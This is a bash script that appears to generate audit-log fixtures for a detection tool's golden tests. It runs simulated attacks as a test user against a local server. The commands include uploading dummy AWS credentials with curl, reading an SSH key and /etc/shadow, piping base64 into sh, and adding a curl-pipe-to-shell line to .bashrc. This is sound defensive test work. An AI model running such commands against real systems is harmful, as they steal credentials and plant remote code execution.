#!/usr/bin/env bash
# Records a live attack session from the real auditd into test/fixtures/audit/session-attacks.log,
# for the golden tests (test/golden.test.ts). Run as root with auditd running, after `npm run
# build`: bash scripts/record-session.sh. It installs clawav's own audit rules (key `clawav`),
# runs a set of attacks as the unprivileged test user against servers on 127.0.0.1, and copies
# the records of the session out of audit.log in log order. Then run UPDATE_GOLDEN=1 npm test.
set -euo pipefail
[ "$(id -u)" = 0 ] || { echo "record-session: run as root" >&2; exit 2; }
cd "$(dirname "$0")/.."
user=clawavtest
out=test/fixtures/audit/session-attacks.log
getent passwd "$user" >/dev/null || useradd --create-home --shell /bin/bash "$user"
home=$(getent passwd "$user" | cut -d: -f6)
pidof auditd >/dev/null || auditd
node dist/cli/clawav.js rules install >/dev/null
as_user() { runuser -u "$user" -- env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$home" "$@"; }
install -d -o "$user" -m 0700 "$home/.ssh" "$home/.aws"
printf 'PRIVATE KEY (test)\n' | install -o "$user" -m 0600 /dev/stdin "$home/.ssh/id_rsa"
printf '[default]\naws_secret_access_key = test\n' | install -o "$user" -m 0600 /dev/stdin "$home/.aws/credentials"
python3 -c 'import http.server,socketserver
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self): self.rfile.read(int(self.headers.get("content-length") or 0)); self.send_response(200); self.end_headers()
    do_GET = do_POST
    def log_message(self, *a): pass
socketserver.TCPServer(("127.0.0.1", 18799), H).serve_forever()' &
srv=$!
trap 'kill $srv 2>/dev/null || true' EXIT
sleep 1
start=$(date '+%H:%M:%S')
sleep 1
as_user cat "$home/.ssh/id_rsa" >/dev/null
as_user curl -s -m 2 --data-binary "@$home/.aws/credentials" http://127.0.0.1:18799/upload >/dev/null || true
as_user bash -c 'echo ZWNobyBoaQo= | base64 -d | sh' >/dev/null
as_user bash -c 'cat /etc/shadow' >/dev/null 2>&1 || true
as_user bash -c "echo 'curl -s http://127.0.0.1:18799/x | sh' >> $home/.bashrc"
as_user python3 -c 'import socket; s=socket.socket(); s.connect(("127.0.0.1", 18799)); s.close()'
as_user bash -c 'whoami; id; uname -a; cat /etc/passwd' >/dev/null
cp /usr/bin/curl /tmp/clawav-session-tool && chmod 0755 /tmp/clawav-session-tool
as_user /tmp/clawav-session-tool -s -m 2 http://127.0.0.1:18799/renamed >/dev/null || true
rm -f /tmp/clawav-session-tool
as_user ls -la "$home" >/dev/null
sed -i '/127.0.0.1:18799/d' "$home/.bashrc"
sleep 1.5
ausearch --raw -k clawav -ts "$(date '+%x')" "$start" 2>/dev/null | grep -o 'msg=audit([0-9.:]*)' | sort -u > /tmp/clawav-session-ids || true
grep -hF -f /tmp/clawav-session-ids /var/log/audit/audit.log > "$out"
rm -f /tmp/clawav-session-ids
echo "record-session: $(wc -l < "$out") records in $out"
